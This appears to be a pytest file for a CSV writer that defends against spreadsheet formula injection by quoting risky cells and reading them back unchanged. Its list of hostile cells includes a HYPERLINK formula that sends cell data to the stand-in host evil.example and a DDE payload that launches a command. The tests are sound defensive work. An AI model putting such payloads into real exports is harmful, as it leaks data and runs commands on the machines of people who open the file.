"""Formula injection in CSV exports (OWASP CSV Injection, ASVS 1.2.10): the one writer
prefixes every cell a spreadsheet would run, and its inverse reads the file back."""

from __future__ import annotations

import csv
import io

import pytest

from cases.people.csv_cells import TRIGGERS, neutralise, unneutralise, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-5",  # a negative number too: OWASP prefixes it
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1",
    "'=already quoted",
    "'",
]
PLAIN = ["", "Dorji Wangchuk", "E100", "2026-12-14", "3.5", "a=b", "O'Neill", "P3-", " =1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_starting_with_a_formula_character_is_shown_as_text(cell: str) -> None:
    (row,) = list(csv.reader(io.StringIO(write_csv([[cell]]), newline="")))
    assert row == ["'" + cell]


def test_cells_a_spreadsheet_would_not_run_are_written_as_they_are() -> None:
    (row,) = list(
        csv.reader(
            io.StringIO(
                write_csv(
                    [
                        PLAIN,
                    ]
                )
            )
        )
    )
    assert row == PLAIN
    assert neutralise(None) == "" and neutralise(7) == "7" and neutralise(-7) == "'-7"


@pytest.mark.parametrize("cell", HOSTILE + PLAIN + [c * 2 for c in TRIGGERS])
def test_unneutralise_reads_back_exactly_what_was_exported(cell: str) -> None:
    """The register's import calls ``unneutralise`` on each cell: export then import is the
    identity, whatever the cell held (a leading quote included)."""
    (row,) = list(csv.reader(io.StringIO(write_csv([[cell]]), newline="")))
    assert unneutralise(row[0]) == cell
